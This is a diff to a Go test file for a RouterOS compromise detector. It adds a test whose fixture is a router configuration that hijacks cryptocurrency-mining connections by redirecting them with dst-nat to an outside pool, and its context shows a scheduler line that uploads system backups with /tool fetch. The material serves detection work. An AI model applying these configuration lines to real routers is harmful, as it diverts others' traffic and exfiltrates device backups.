@@ -70,3 +70,36 @@ add name=backup source="/system backup save name=b; /tool fetch upload=yes mode=
 		t.Errorf("control: %v", w)
 	}
 }
+
+// TestMiningHijack (rc28 D0's remainder): a mangle rule lists the
+// destinations of connections carrying "mining.submit", and a dst-nat
+// sends connections to those destinations to a pool on the internet:
+// a sign of compromise naming both lines. Control: the same list feeding
+// a dst-nat to a LAN host (a transparent proxy of the user's own) is none.
+func TestMiningHijack(t *testing.T) {
+	const text = `# nov/28/2020 07:03:06 by RouterOS 6.43.7
+/ip address
+add address=182.23.24.98/30 interface=ether1 network=182.23.24.96
+add address=192.168.88.1/24 interface=ether2 network=192.168.88.0
+/ip route
+add gateway=182.23.24.97
+/ip firewall mangle
+add action=add-dst-to-address-list address-list=sha chain=prerouting content=mining.submit dst-address=!94.100.18.41 protocol=tcp
+/ip firewall nat
+add action=dst-nat chain=dstnat comment=sha dst-address-list=sha dst-port=!23,8291,64444 protocol=tcp to-addresses=%s to-ports=3333
+add action=masquerade chain=srcnat out-interface=ether1
+`
+	for _, tt := range []struct {
+		to   string
+		want bool
+	}{
+		{"94.100.18.41", true},
+		{"192.168.88.10", false},
+	} {
+		got := strings.Join(loadText(t, strings.Replace(text, "%s", tt.to, 1)).CompromiseWarnings(), "\n")
+		sign := strings.Contains(got, "line 10, dst-nat sends every connection to a destination that line 8 lists by its payload (content=mining.submit) to 94.100.18.41:3333")
+		if sign != tt.want || !tt.want && got != "" {
+			t.Errorf("to %s: warnings %q", tt.to, got)
+		}
+	}
+}
